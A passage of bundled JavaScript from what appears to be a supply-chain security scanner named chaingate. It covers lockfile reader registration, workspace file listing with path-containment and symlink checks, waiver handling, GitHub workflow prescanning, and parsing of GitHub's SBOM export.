    load: async () => (await import("./npm-lock-JQLGGLPY.js")).read
  },
  { format: "yarn-lock", ecosystem: "npm", matches: named("yarn.lock"), load: async () => (await import("./yarn-lock-SRILS3DB.js")).read },
  { format: "pnpm-lock", ecosystem: "npm", matches: named("pnpm-lock.yaml"), load: async () => (await import("./pnpm-lock-UIQDL6XE.js")).read },
  { format: "bun-lock", ecosystem: "npm", matches: named("bun.lock"), load: async () => (await import("./bun-lock-LDYK5YN4.js")).read },
  {
    format: "package-json",
    ecosystem: "npm",
    matches: named("package.json"),
    supersededBy: NPM_LOCKFILES,
    load: async () => (await import("./package-json-SSJEKECJ.js")).read
  },
  // Python
  {
    format: "requirements",
    ecosystem: "PyPI",
    matches: (name) => /^.*requirements.*\.(txt|in)$/i.test(name) && !name.endsWith(".in"),
    load: async () => (await import("./requirements-MDWXNT5N.js")).read
  },
  { format: "poetry-lock", ecosystem: "PyPI", matches: named("poetry.lock"), load: async () => (await import("./poetry-lock-YEOSUGYI.js")).read },
  { format: "uv-lock", ecosystem: "PyPI", matches: named("uv.lock"), load: async () => (await import("./uv-lock-OPJPNZVF.js")).read },
  { format: "pipfile-lock", ecosystem: "PyPI", matches: named("Pipfile.lock"), load: async () => (await import("./pipfile-lock-7FGKOR4Y.js")).read },
  { format: "pdm-lock", ecosystem: "PyPI", matches: named("pdm.lock"), load: async () => (await import("./pdm-lock-7OAIYIK6.js")).read },
  {
    format: "pipfile",
    ecosystem: "PyPI",
    matches: named("Pipfile"),
    supersededBy: ["Pipfile.lock"],
    load: async () => (await import("./pipfile-FC3WU4PL.js")).read
  },
  {
    format: "pylock",
    ecosystem: "PyPI",
    matches: (name) => name === "pylock.toml" || /^pylock\.[^.]+\.toml$/.test(name),
    load: async () => (await import("./pylock-PMHHKTEA.js")).read
  },
  {
    format: "pyproject",
    ecosystem: "PyPI",
    matches: named("pyproject.toml"),
    supersededBy: PYTHON_LOCKFILES,
    load: async () => (await import("./pyproject-3YVATUVW.js")).read
  },
  // Go, Rust
  { format: "go-mod", ecosystem: "Go", matches: named("go.mod"), load: async () => (await import("./go-mod-ABSUR2K4.js")).read },
  { format: "cargo-lock", ecosystem: "crates.io", matches: named("Cargo.lock"), load: async () => (await import("./cargo-lock-VWUVYXEI.js")).read },
  {
    format: "cargo-toml",
    ecosystem: "crates.io",
    matches: named("Cargo.toml"),
    supersededBy: ["Cargo.lock"],
    load: async () => (await import("./cargo-toml-Q4YQLU4O.js")).read
  },
  // Ruby, PHP, .NET, Java
  {
    format: "gemfile-lock",
    ecosystem: "RubyGems",
    matches: (name) => name === "Gemfile.lock" || name === "gems.locked",
    load: async () => (await import("./gemfile-lock-LNWCMI6Y.js")).read
  },
  { format: "composer-lock", ecosystem: "Packagist", matches: named("composer.lock"), load: async () => (await import("./composer-lock-5HJZPJMV.js")).read },
  {
    format: "composer-json",
    ecosystem: "Packagist",
    matches: named("composer.json"),
    supersededBy: ["composer.lock"],
    load: async () => (await import("./composer-json-BXJUNCIC.js")).read
  },
  { format: "nuget-lock", ecosystem: "NuGet", matches: named("packages.lock.json"), load: async () => (await import("./nuget-lock-TLKRGUVY.js")).read },
  {
    format: "gradle-lockfile",
    ecosystem: "Maven",
    matches: named("gradle.lockfile", "buildscript-gradle.lockfile"),
    load: async () => (await import("./gradle-lockfile-UEKJOJMH.js")).read
  },
  { format: "maven-pom", ecosystem: "Maven", matches: named("pom.xml"), load: async () => (await import("./maven-pom-KMDPHFGU.js")).read }
];
function readersFor(basename) {
  return READERS.filter((entry2) => entry2.matches(basename));
}

// fs-without-es-facade:src/workspace/workspace.ts
var fs = process.getBuiltinModule("node:fs");
var workspace_default = fs;

// src/workspace/workspace.ts
import path from "node:path";
var SKIPPED_DIRECTORIES = /* @__PURE__ */ new Set([".git", "node_modules", ".hg", ".svn"]);
var MAX_LINK_DEPTH = 8;
var Workspace = class _Workspace {
  root;
  fileList = null;
  skippedLinks = [];
  texts = /* @__PURE__ */ new Map();
  /** Values derived from files and shared by every view (e.g. parsed action metadata used by many groups). */
  derived = /* @__PURE__ */ new Map();
  /** Shared with views (an object, so a view's increments reach it). */
  counters = { filesRead: 0 };
  /** Files of the workspace read so far. */
  get filesRead() {
    return this.counters.filesRead;
  }
  /** Paths the policy's `ignore-paths` excludes from file-based rules (set once the policy is loaded). */
  isIgnored = () => false;
  constructor(root) {
    const absolute = path.resolve(root);
    let real;
    try {
      real = workspace_default.realpathSync.native(absolute);
    } catch {
      throw new ConfigurationError(`workspace ${root} does not exist`);
    }
    if (!workspace_default.statSync(real).isDirectory()) throw new ConfigurationError(`workspace ${root} is not a directory`);
    this.root = real;
  }
  /**
   * The absolute path of `relative`, or a ConfigurationError when it would leave the workspace
   * (`..`, absolute paths, symlinks pointing outside).
   */
  resolve(relative) {
    if (relative.includes("\0")) throw new ConfigurationError(`path ${JSON.stringify(relative)} contains a NUL byte`);
    const normalised = relative.replace(/\\/g, "/");
    if (path.posix.isAbsolute(normalised) || path.win32.isAbsolute(relative)) {
      const absolute = path.resolve(relative);
      if (!isInside(this.root, absolute)) throw new ConfigurationError(`path ${relative} is outside the workspace`);
      return this.checkReal(absolute, relative);
    }
    const joined = path.resolve(this.root, normalised);
    if (!isInside(this.root, joined)) throw new ConfigurationError(`path ${relative} is outside the workspace`);
    return this.checkReal(joined, relative);
  }
  checkReal(absolute, shown) {
    let real;
    try {
      real = workspace_default.realpathSync.native(absolute);
    } catch {
      return absolute;
    }
    if (!isInside(this.root, real)) throw new ConfigurationError(`path ${shown} resolves outside the workspace`);
    return real;
  }
  /** Workspace-relative POSIX path of an absolute path inside the root. */
  relative(absolute) {
    return path.relative(this.root, absolute).split(path.sep).join("/");
  }
  exists(relative) {
    try {
      return workspace_default.existsSync(this.resolve(relative));
    } catch {
      return false;
    }
  }
  /**
   * All regular files (relative POSIX paths). In a git work tree, the files git sees: tracked ones and
   * untracked ones it does not ignore (what a checkout in CI holds); elsewhere, or for a directory git
   * ignores as a whole, a walk that skips .git and node_modules. A symbolic link is followed when its real
   * target is inside the workspace (a linked file is listed under the link's path; a linked directory's files
   * under the link's path too); otherwise it is skipped and recorded in `skipped()`.
   */
  files() {
    if (this.fileList) return this.fileList;
    const links = [];
    const found = this.gitFiles(links) ?? this.walkFiles(this.root, "", links);
    this.followLinks(links, found, 0);
    found.sort();
    this.fileList = [...new Set(found)];
    return this.fileList;
  }
  /** Symbolic links `files()` did not follow (outside the workspace, pointing nowhere, cycles), in path order. */
  skipped() {
    _Workspace.prototype.files.call(this);
    return this.skippedLinks;
  }
  /** null when the root is not inside a git work tree or git is not installed. Symbolic links go to `links`. */
  gitFiles(links) {
    if (!this.insideGitWorkTree()) return null;
    const { spawnSync } = process.getBuiltinModule("node:child_process");
    const listed = spawnSync("git", ["ls-files", "-z", "--cached", "--others", "--exclude-standard", "--", "."], {
      cwd: this.root,
      encoding: "utf8",
      maxBuffer: 256 * 1024 * 1024
    });
    if (listed.status !== 0 || listed.error) return null;
    if (listed.stdout === "") return null;
    return [...new Set(listed.stdout.split("\0"))].filter((relative) => {
      if (relative === "") return false;
      try {
        const stat = workspace_default.lstatSync(path.join(this.root, relative));
        if (stat.isSymbolicLink()) links.push(relative);
        return stat.isFile();
      } catch {
        return false;
      }
    });
  }
  /** A `.git` directory or file (worktrees, submodules) in the root or one of its parents. */
  insideGitWorkTree() {
    for (let directory = this.root; ; directory = path.dirname(directory)) {
      if (workspace_default.existsSync(path.join(directory, ".git"))) return true;
      if (path.dirname(directory) === directory) return false;
    }
  }
  /** Regular files under `start`, listed as `prefix` + their path below it; symbolic links go to `links`. */
  walkFiles(start, prefix, links) {
    const found = [];
    const walk = (directory, prefix2) => {
      let entries2;
      try {
        entries2 = workspace_default.readdirSync(directory, { withFileTypes: true });
      } catch {
        return;
      }
      for (const entry2 of entries2) {
        if (entry2.isDirectory()) {
          if (!SKIPPED_DIRECTORIES.has(entry2.name)) walk(path.join(directory, entry2.name), `${prefix2}${entry2.name}/`);
        } else if (entry2.isFile()) {
          found.push(`${prefix2}${entry2.name}`);
        } else if (entry2.isSymbolicLink()) {
          links.push(`${prefix2}${entry2.name}`);
        }
      }
    };
    walk(start, prefix);
    return found;
  }
  /**
   * Follows each link (a workspace-relative path) whose real target is inside the workspace: a file is
   * added under the link's path, a directory is walked under it (its own links followed in turn, up to
   * MAX_LINK_DEPTH). Anything else is recorded as skipped.
   */
  followLinks(links, found, depth) {
    for (const link of links) {
      const absolute = path.join(this.root, link);
      let target2 = "?";
      try {
        target2 = workspace_default.readlinkSync(absolute);
      } catch {
      }
      let real;
      try {
        real = workspace_default.realpathSync.native(absolute);
      } catch {
        this.skippedLinks.push({ path: link, reason: `symbolic link to ${target2}, which does not exist`, directory: null });
        continue;
      }
      let stat;
      try {
        stat = workspace_default.statSync(real);
      } catch {
        this.skippedLinks.push({ path: link, reason: `symbolic link to ${target2}, which cannot be read`, directory: null });
        continue;
      }
      if (!isInside(this.root, real)) {
        this.skippedLinks.push({ path: link, reason: `symbolic link to ${target2}, outside the repository`, directory: stat.isDirectory() });
        continue;
      }
      if (stat.isFile()) {
        found.push(link);
      } else if (stat.isDirectory()) {
        if (isInside(real, realOf(path.dirname(absolute))) || depth >= MAX_LINK_DEPTH) {
          this.skippedLinks.push({ path: link, reason: `symbolic link to ${target2}, a directory that contains the link (a cycle)`, directory: true });
          continue;
        }
        const nested = [];
        found.push(...this.walkFiles(real, `${link}/`, nested));
        this.followLinks(nested, found, depth + 1);
      }
    }
    this.skippedLinks.sort((a, b) => a.path < b.path ? -1 : a.path > b.path ? 1 : 0);
  }
  /** A view of this workspace listing only `files` (reads, caches and counters are shared with it). */
  withFiles(files) {
    const view = Object.create(this);
    view.files = () => files;
    return view;
  }
  /** Files directly in a directory (relative path), sorted; [] when it does not exist. */
  filesIn(directory) {
    let absolute;
    try {
      absolute = this.resolve(directory);
    } catch {
      return [];
    }
    let entries2;
    try {
      entries2 = workspace_default.readdirSync(absolute, { withFileTypes: true });
    } catch {
      return [];
    }
    const prefix = directory.replace(/\/+$/, "");
    return entries2.filter((entry2) => entry2.isFile() || entry2.isSymbolicLink()).map((entry2) => prefix ? `${prefix}/${entry2.name}` : entry2.name).sort();
  }
  /**
   * Sub-directories directly in a directory (names, sorted); [] when it does not exist. For installed
   * metadata git does not list (`.venv/lib/python3.12/site-packages/*.dist-info`); symlinks are not followed.
   */
  directoriesIn(directory) {
    let absolute;
    try {
      absolute = this.resolve(directory);
    } catch {
      return [];
    }
    try {
      return workspace_default.readdirSync(absolute, { withFileTypes: true }).filter((entry2) => entry2.isDirectory()).map((entry2) => entry2.name).sort();
    } catch {
      return [];
    }
  }
  /**
   * Reads a text file once (cached), refusing files larger than `maxBytes`. `cache: false` for many small
   * files read once (installed packages' metadata): not kept in memory, not offered to waivers.
   */
  readText(relative, maxBytes = 1024 * 1024, options = {}) {
    const cached = this.texts.get(relative);
    if (cached !== void 0) return { ok: true, text: cached };
    let absolute;
    try {
      absolute = this.resolve(relative);
    } catch (error) {
      return { ok: false, reason: error.message };
    }
    try {
      const stat = workspace_default.statSync(absolute);
      if (!stat.isFile()) return { ok: false, reason: "not a regular file" };
      if (stat.size > maxBytes) {
        return { ok: false, reason: `file is ${formatBytes(stat.size)}, larger than the ${formatBytes(maxBytes)} chaingate reads` };
      }
      const text = workspace_default.readFileSync(absolute, "utf8");
      capYoungGeneration();
      this.counters.filesRead += 1;
      if (options.cache !== false) this.texts.set(relative, text);
      return { ok: true, text };
    } catch (error) {
      const code = error.code;
      return { ok: false, reason: code === "EACCES" ? "permission denied" : code === "ENOENT" ? "no such file" : error.message };
    }
  }
  /** `make()` once per key for this workspace and all its views. */
  memo(key2, make) {
    if (!this.derived.has(key2)) this.derived.set(key2, make());
    return this.derived.get(key2);
  }
  /** Text already read with readText (for inline ignore comments). */
  cachedText(relative) {
    return this.texts.get(relative);
  }
};
function realOf(file) {
  try {
    return workspace_default.realpathSync.native(file);
  } catch {
    return file;
  }
}
function isInside(root, candidate) {
  const relative = path.relative(root, candidate);
  return relative === "" || !relative.startsWith("..") && !path.isAbsolute(relative);
}
function formatBytes(bytes) {
  if (bytes >= 1024 * 1024) return `${(bytes / (1024 * 1024)).toFixed(1)} MiB`;
  if (bytes >= 1024) return `${(bytes / 1024).toFixed(1)} KiB`;
  return `${bytes} B`;
}

// src/advisories/model.ts
var SEVERITY_WORDS = ["low", "moderate", "high", "critical"];
function advisoryIds(advisory) {
  return [advisory.id, ...advisory.aliases.filter((alias) => alias !== advisory.id)];
}

// src/model/finding.ts
var SEVERITIES = ["critical", "high", "medium", "low", "info"];
var AREAS = ["accounts", "code", "build", "artifacts", "dependencies"];
var CONFIDENCES = ["high", "medium", "low"];
function confidenceRank(confidence) {
  return CONFIDENCES.length - CONFIDENCES.indexOf(confidence);
}
function severityRank(severity) {
  return SEVERITIES.length - SEVERITIES.indexOf(severity);
}
function atLeast(severity, threshold) {
  return severityRank(severity) >= severityRank(threshold);
}

// src/policy/globs.ts
var MATCH_OPTIONS = { dot: true, nocomment: true, nonegate: false };
function globProblem(pattern) {
  if (pattern.trim() === "") return "empty glob";
  if (pattern.startsWith("/") || /^[A-Za-z]:[\\/]/.test(pattern)) return `glob ${JSON.stringify(pattern)} must be relative to the repository root`;
  if (pattern.split("/").includes("..")) return `glob ${JSON.stringify(pattern)} must not contain '..'`;
  if (pattern.includes("\\")) return `glob ${JSON.stringify(pattern)} uses '\\'; use '/' as the path separator`;
  if (!balanced(pattern, "[", "]") || !balanced(pattern, "{", "}")) return `glob ${JSON.stringify(pattern)} has an unclosed '[' or '{'`;
  const matcher = new (globLibrary()).Minimatch(pattern, MATCH_OPTIONS);
  if (matcher.set.length === 0) return `glob ${JSON.stringify(pattern)} matches nothing`;
  return null;
}
function balanced(pattern, open, close) {
  let depth = 0;
  for (let index = 0; index < pattern.length; index += 1) {
    const char = pattern[index];
    if (char === "\\") {
      index += 1;
      continue;
    }
    if (char === open) depth += 1;
    else if (char === close) {
      depth -= 1;
      if (depth < 0) return false;
    }
  }
  return depth === 0;
}
function globsNeedLibrary(patterns) {
  return patterns.some((pattern) => enclosedDirectories(pattern) === null);
}
function globMatcher(patterns) {
  if (patterns.length === 0) return () => false;
  const matchers = patterns.map((pattern) => {
    let full;
    const minimatch = (path14) => (full ??= new (globLibrary()).Minimatch(pattern, MATCH_OPTIONS)).match(path14);
    const inside = enclosedDirectories(pattern);
    return inside === null ? minimatch : (path14) => PLAIN_PATH.test(path14) ? `/${path14}`.includes(inside) : minimatch(path14);
  });
  return (path14) => matchers.some((match2) => match2(path14));
}
var PLAIN_PATH = /^(?!\.\.?(?:\/|$))[^/]+(?:\/(?!\.\.?(?:\/|$))[^/]+)*$/;
function enclosedDirectories(pattern) {
  const match2 = /^\*\*((?:\/[A-Za-z0-9._-]+)+)\/\*\*$/.exec(pattern);
  if (!match2 || match2[1].split("/").some((segment) => segment === "." || segment === "..")) return null;
  return `${match2[1]}/`;
}

// src/policy/waivers.ts
var EXPIRED_WAIVER_RULE_ID = "expired-waiver";
var INLINE_IGNORE = /#\s*(chaingate|zizmor)\s*:\s*ignore\[([^\]]*)\]\s*(.*)$/;
function parseInlineIgnore(lineText, line) {
  const match2 = INLINE_IGNORE.exec(lineText);
  if (!match2) return null;
  const rules = (match2[2] ?? "").split(",").map((rule) => rule.trim()).filter(Boolean);
  return {
    tool: match2[1],
    rules,
    reason: (match2[3] ?? "").trim(),
    line,
    column: (match2.index ?? 0) + 1
  };
}
function inlineIgnoreFor(finding, text) {
  if (!finding.location || text === void 0) return null;
  const lines2 = typeof text === "string" ? text.split("\n") : text;
  const { startLine, endLine } = finding.location;
  for (let line = startLine; line <= Math.min(endLine, lines2.length); line += 1) {
    const ignore = parseInlineIgnore(lines2[line - 1] ?? "", line);
    if (ignore && ignore.rules.includes(finding.rule)) return ignore;
  }
  return null;
}
function isExpired(waiver, now) {
  if (!waiver.expires) return false;
  return now.getTime() >= Date.parse(`${waiver.expires}T00:00:00Z`) + 24 * 60 * 60 * 1e3;
}
function waiverCovers(waiver, finding, comparePurl) {
  if (waiver.advisories && waiver.advisories.length > 0) {
    const waived = new Set(waiver.advisories.map((id) => id.toUpperCase()));
    const named2 = (finding.advisories ?? []).some((id) => waived.has(id.toUpperCase()));
    const covers = finding.covers ?? [];
    if (!named2 && !(covers.length > 0 && covers.every((id) => waived.has(id.toUpperCase())))) return false;
  }
  if (waiver.purls && waiver.purls.length > 0) {
    const purl = finding.purl;
    if (!purl) return false;
    let decoded = purl;
    try {
      decoded = decodeURIComponent(purl);
    } catch {
      decoded = purl;
    }
    const matches = (pattern) => /[*?[\]{}]/.test(pattern) ? globLibrary().minimatch(purl, pattern) || globLibrary().minimatch(decoded, pattern) || globLibrary().minimatch(decoded.replace(/[?#].*$/, ""), pattern) : comparePurl ? comparePurl(pattern, purl) : pattern === purl || pattern === decoded;
    if (!waiver.purls.some(matches)) return false;
  }
  return true;
}
function applyWaivers(findings, waivers, now, textOf, comparePurl) {
  const matchers = waivers.map((waiver) => ({ waiver, matches: globMatcher(waiver.paths), used: false, expired: isExpired(waiver, now) }));
  const linesByPath = /* @__PURE__ */ new Map();
  const linesOf = (path14) => {
    if (!linesByPath.has(path14)) linesByPath.set(path14, textOf(path14)?.split("\n"));
    return linesByPath.get(path14);
  };
  const out = findings.map((finding) => {
    if (finding.status !== "fail" && finding.status !== "unknown") return finding;
    const inline = finding.location ? inlineIgnoreFor(finding, linesOf(finding.location.path)) : null;
    if (inline && finding.status === "fail") {
      const waiver = {
        source: "inline",
        reason: inline.reason || `${inline.tool}: ignore comment without a reason`,
        location: { path: finding.location.path, startLine: inline.line, startColumn: inline.column, endLine: inline.line, endColumn: inline.column }
      };
      return { ...finding, status: "waived", waiver };
    }
    for (const entry2 of matchers) {
      if (entry2.waiver.rule !== finding.rule) continue;
      const pathMatches = entry2.waiver.paths.length === 0 || finding.location !== void 0 && entry2.matches(finding.location.path);
      if (!pathMatches || !waiverCovers(entry2.waiver, finding, comparePurl)) continue;
      entry2.used = true;
      if (entry2.expired) continue;
      const waiver = {
        source: "policy",
        reason: entry2.waiver.reason,
        ...entry2.waiver.expires ? { expires: entry2.waiver.expires } : {},
        ...entry2.waiver.location ? { location: entry2.waiver.location } : {}
      };
      return { ...finding, status: "waived", waiver };
    }
    return finding;
  });
  return {
    findings: out,
    expired: matchers.filter((entry2) => entry2.expired).map((entry2) => entry2.waiver),
    unused: matchers.filter((entry2) => !entry2.used && !entry2.expired).map((entry2) => entry2.waiver)
  };
}

// src/facts/store.ts
var FactStore = class _FactStore {
  pending = /* @__PURE__ */ new Map();
  settled = /* @__PURE__ */ new Map();
  context;
  parent;
  given;
  constructor(base, parent = null, given = parent?.given ?? /* @__PURE__ */ new Map()) {
    this.parent = parent;
    this.given = given;
    this.context = { ...base, get: (def) => this.get(def) };
  }
  /** A store for one group of workflow files, sharing this store's run-scoped facts. */
  child(base) {
    return new _FactStore(base, this);
  }
  get(def) {
    if (this.parent && !isGroupScoped(def)) return this.parent.get(def);
    let promise = this.pending.get(def.id);
    if (!promise) {
      const given = this.given.get(def.id);
      promise = (given ? Promise.resolve(given) : withGlobLibrary(() => def.fetch(this.context))).then(
        (fact) => fact,
        (error) => {
          if (error instanceof ConfigurationError) throw error;
          return unknownFact("api-error", `could not read ${def.id}: ${errorMessage(error)}`);
        }
      );
      promise.then((fact) => this.settled.set(def.id, fact)).catch(() => void 0);
      this.pending.set(def.id, promise);
    }
    return promise;
  }
  async getAll(defs) {
    await Promise.all([...defs].map((def) => this.get(def)));
  }
  /** A fact already fetched with `get`/`getAll`. */
  peek(def) {
    if (this.parent && !isGroupScoped(def)) return this.parent.peek(def);
    const fact = this.settled.get(def.id);
    if (!fact) throw new Error(`fact ${def.id} was read before it was fetched; declare it in the rule's needs/uses`);
    return fact;
  }
};

// src/workspace/workflow-prescan.ts
import path2 from "node:path";

// src/workspace/workflow-files.ts
var MAX_WORKFLOW_BYTES = 1024 * 1024;
var WORKFLOW_PATTERN = /^\.github\/workflows\/[^/]+\.ya?ml$/;
var ACTION_PATTERN = /(^|\/)action\.ya?ml$/;
function workflowFileKind(relative) {
  if (WORKFLOW_PATTERN.test(relative)) return "workflow";
  if (ACTION_PATTERN.test(relative)) return "action";
  return null;
}
function listWorkflowFiles(workspace, ignored = () => false) {
  const found = [];
  for (const relative of workspace.files()) {
    const kind = workflowFileKind(relative);
    if (kind && !ignored(relative)) found.push({ path: relative, kind });
  }
  return found;
}
function parseOne(workspace, path14, kind) {
  const read = workspace.readText(path14, MAX_WORKFLOW_BYTES);
  if (!read.ok) return { failure: { path: path14, kind, message: `cannot read: ${read.reason}`, line: 1, column: 1 } };
  const parsed = parseWorkflowText(path14, kind, read.text);
  return parsed.ok ? { file: Object.assign(parsed.file, { kind }) } : { failure: { ...parsed.failure, kind } };
}
function parseWorkflowText(path14, kind, text) {
  const parsed = parseYaml(path14, text);
  if (!parsed.ok) return parsed;
  const refused = kind === "workflow" ? githubRefusal(parsed.file) : null;
  return refused ? { ok: false, failure: refused } : parsed;
}
function githubRefusal(file) {
  const merge = file.doc.mergeKeys[0];
  if (merge === void 0) return null;
  const position = file.lineCounter.linePos(merge);
  const more = file.doc.mergeKeys.length > 1 ? ` (and ${file.doc.mergeKeys.length - 1} more)` : "";
  return {
    path: file.path,
    message: `YAML merge key "<<:"${more}: GitHub Actions does not support merge keys and rejects the workflow`,
    line: position.line,
    column: position.col
  };
}
function parseWorkflowFiles(workspace, ignored) {
  const result = { files: [], failures: [] };
  for (const { path: path14, kind } of listWorkflowFiles(workspace, ignored)) {
    const outcome = kind === "action" ? workspace.memo(`parsed:${path14}`, () => parseOne(workspace, path14, kind)) : parseOne(workspace, path14, kind);
    if ("failure" in outcome) result.failures.push(outcome.failure);
    else result.files.push(outcome.file);
  }
  return result;
}
var workflowFilesFact = defineFact(
  "workspace.workflow-files",
  async (ctx) => known(await explainFailures(ctx.workspace, parseWorkflowFiles(ctx.workspace, ctx.workspace.isIgnored))),
  { scope: "workflow-group" }
);
async function explainFailures(workspace, files) {
  const syntax = files.failures.filter((failure) => !failure.message.startsWith("cannot read") && !failure.message.startsWith("YAML merge key"));
  if (syntax.length === 0) return files;
  const { explainYamlFailure } = await import("./yaml-diagnostics-BFBL6O6D.js");
  const failures = files.failures.map((failure) => {
    if (!syntax.includes(failure)) return failure;
    const read = workspace.readText(failure.path, MAX_WORKFLOW_BYTES);
    return read.ok ? { ...explainYamlFailure(read.text, failure), kind: failure.kind } : failure;
  });
  return { files: files.files, failures };
}
var WORKFLOW_DIRECTORIES = /* @__PURE__ */ new Set([".github", ".github/workflows"]);
function skippedWorkflowLinks(workspace) {
  return workspace.skipped().filter((link) => {
    if (workspace.isIgnored(link.path)) return false;
    return workflowFileKind(link.path) !== null || link.directory !== false && WORKFLOW_DIRECTORIES.has(link.path);
  });
}
var skippedWorkflowLinksFact = defineFact("workspace.skipped-workflow-links", async (ctx) => known(skippedWorkflowLinks(ctx.workspace)));

// src/workspace/workflow-prescan.ts
var USES = /(?:^|[\s{,-])uses\s*:\s*(?:"([^"\n]*)"|'([^'\n]*)'|([^\s#,}\n]+))/gm;
var TOP_LEVEL_NAME = /^name\s*:\s*(?:"([^"\n]*)"|'([^'\n]*)'|([^#\n]*?))\s*(?:#.*)?$/m;
function* usesValues(text) {
  for (const match2 of text.matchAll(USES)) {
    const raw = match2[1] ?? match2[2] ?? match2[3] ?? "";
    const value = raw.trim();
    if (value === "") continue;
    const offset = (match2.index ?? 0) + match2[0].length - raw.length - (match2[3] === void 0 ? 1 : 0) + (raw.length - raw.trimStart().length);
    yield { value, offset };
  }
}
function prescanText(relative, kind, text, exists) {
  const links = /* @__PURE__ */ new Set();
  const remoteUses = [];
  for (const { value } of usesValues(text)) {
    const local = value.startsWith("./") ? value.slice(2) : value.startsWith("$/") ? value.slice(2) : null;
    if (local === null) {
      remoteUses.push(value);
      continue;
    }
    const target2 = path2.posix.normalize(local.split("@")[0].replace(/\/+$/, ""));
    if (target2.startsWith("..")) continue;
    for (const candidate of [target2, `${target2}/action.yml`, `${target2}/action.yaml`]) if (exists(candidate)) links.add(candidate);
  }
  const nameMatch = kind === "workflow" ? TOP_LEVEL_NAME.exec(text) : null;
  const name = nameMatch ? (nameMatch[1] ?? nameMatch[2] ?? nameMatch[3] ?? "").trim() : "";
  return { path: relative, kind, links: [...links], remoteUses, ...name ? { name } : {} };
}
function prescanWorkflowFiles(workspace) {
  const listed = listWorkflowFiles(workspace, workspace.isIgnored);
  const known2 = new Set(listed.map((file) => file.path));
  const texts = /* @__PURE__ */ new Map();
  const files = listed.map(({ path: relative, kind }) => {
    const read = workspace.readText(relative, MAX_WORKFLOW_BYTES);
    if (!read.ok) return { path: relative, kind, links: [], remoteUses: [] };
    texts.set(relative, read.text);
    return prescanText(relative, kind, read.text, (candidate) => known2.has(candidate));
  });
  return { files, groups: groupFiles(files, texts) };
}
function groupFiles(files, texts) {
  const kindOf = new Map(files.map((file) => [file.path, file.kind]));
  const linksOf = new Map(files.map((file) => [file.path, file.links]));
  const parent = new Map(files.map((file) => [file.path, file.path]));
  const find = (node) => {
    let root = node;
    while (parent.get(root) !== root) root = parent.get(root);
    for (let current = node; current !== root; ) {
      const next = parent.get(current);
      parent.set(current, root);
      current = next;
    }
    return root;
  };
  const union = (a, b) => {
    if (parent.has(a) && parent.has(b)) parent.set(find(a), find(b));
  };
  for (const file of files) for (const link of file.links) if (kindOf.get(link) === "workflow" && file.kind === "workflow") union(file.path, link);
  const byName = /* @__PURE__ */ new Map();
  for (const file of files) {
    if (file.kind !== "workflow") continue;
    for (const key2 of [file.name, path2.posix.basename(file.path)]) if (key2) byName.set(key2, [...byName.get(key2) ?? [], file.path]);
  }
  for (const file of files) {
    const text = texts.get(file.path);
    if (!text || !text.includes("workflow_run")) continue;
    const names = workflowRunNames(text);
    if (names) {
      for (const name of names) for (const other of byName.get(name) ?? []) union(file.path, other);
      continue;
    }
    for (const [name, paths] of byName) if (text.includes(name)) for (const other of paths) union(file.path, other);
  }
  const members = /* @__PURE__ */ new Map();
  for (const file of files) {
    const root = find(file.path);
    members.set(root, [...members.get(root) ?? [], file.path]);
  }
  return [...members.values()].map((group) => {
    const inGroup = new Set(group);
    const pending = [...group];
    while (pending.length > 0) {
      for (const link of linksOf.get(pending.pop()) ?? []) {
        if (kindOf.get(link) !== "action" || inGroup.has(link)) continue;
        inGroup.add(link);
        pending.push(link);
      }
    }
    return files.map((file) => file.path).filter((candidate) => inGroup.has(candidate));
  });
}
function workflowRunNames(text) {
  const names = [];
  let found = false;
  const unquote = (value) => value.trim().replace(/^(["'])(.*)\1$/, "$2").trim();
  for (const match2 of text.matchAll(/^([ \t]*)workflows\s*:[ \t]*(.*)$/gm)) {
    const rest = (match2[2] ?? "").replace(/\s+#.*$/, "").trim();
    if (rest.startsWith("[")) {
      if (!rest.endsWith("]")) return null;
      found = true;
      names.push(...rest.slice(1, -1).split(",").map(unquote).filter(Boolean));
    } else if (rest === "") {
      const after = text.slice((match2.index ?? 0) + match2[0].length + 1).split("\n");
      for (const line of after) {
        const item = /^[ \t]*-[ \t]+(.*?)\s*(?:#.*)?$/.exec(line);
        if (!item) break;
        found = true;
        names.push(unquote(item[1] ?? ""));
      }
    } else {
      found = true;
      names.push(unquote(rest));
    }
  }
  return found ? names : null;
}
var workflowPrescanFact = defineFact("workspace.workflow-prescan", async (ctx) => known(prescanWorkflowFiles(ctx.workspace)));

// src/inventory/fact.ts
var inventoryFact = defineFact("workspace.inventory", async (ctx) => {
  const prescan = ctx.sbom?.only ? void 0 : await ctx.get(workflowPrescanFact);
  const inventory = ctx.sbom?.only ? { packages: [], edges: [], files: [], problems: [] } : await (await import("./collect-AVZ37XE3.js")).collectInventory(ctx.workspace, prescan?.known ? { prescan: prescan.value } : {});
  if (ctx.sbom && ctx.sbom.files.length > 0) {
    const { addSbomFiles } = await import("./collect-JOFN3LKA.js");
    addSbomFiles(inventory, ctx.workspace, ctx.sbom.files);
  }
  return known(inventory);
});

// src/github/facts/dependency-graph-sbom.ts
var UNKNOWN_VALUES = /* @__PURE__ */ new Set(["", "NOASSERTION", "OTHER", "NONE"]);
var usable = (value) => typeof value === "string" && !UNKNOWN_VALUES.has(value.trim().toUpperCase()) ? value.trim() : void 0;
function licensesFromExport(body, purlKey) {
  const sbom = body?.sbom;
  const packages = sbom?.packages;
  if (typeof sbom !== "object" || sbom === null || !Array.isArray(packages)) throw new Error("the response is not an SBOM export (no sbom.packages list)");
  const licenses = {};
  for (const entry2 of packages) {
    if (typeof entry2 !== "object" || entry2 === null) throw new Error("the response is not an SBOM export (a package is not an object)");
    const license = usable(entry2.licenseDeclared) ?? usable(entry2.licenseConcluded);
    if (!license || !Array.isArray(entry2.externalRefs)) continue;
    for (const ref of entry2.externalRefs) {
      if (ref?.referenceType !== "purl" || typeof ref.referenceLocator !== "string") continue;
      const key2 = purlKey(ref.referenceLocator);
      if (key2) licenses[key2] = license;
    }
  }
  return { licenses, packages: packages.length };
}
var githubSbomFact = defineFact("github.dependency-graph-sbom", async (ctx) => {
  if (!ctx.target) return noTarget();
  const { owner, repo } = ctx.target;
  const what2 = `GitHub's SBOM export of ${owner}/${repo}`;
  const body = await apiFact(ctx.github, async (client) => (await client.octokit.rest.dependencyGraph.exportSbom({ owner, repo })).data, {
    what: what2,
    permission: "Contents: read"
  });
  if (!body.known) return body;
  const { purlKey } = await import("./purl-key-Z7GCIAXR.js");
  try {
    return known(licensesFromExport(body.value, purlKey));
  } catch (error) {
    return unknownFact("api-error", `could not read ${what2}: ${error.message}`);
  }
});

// src/inventory/licenses/fact.ts
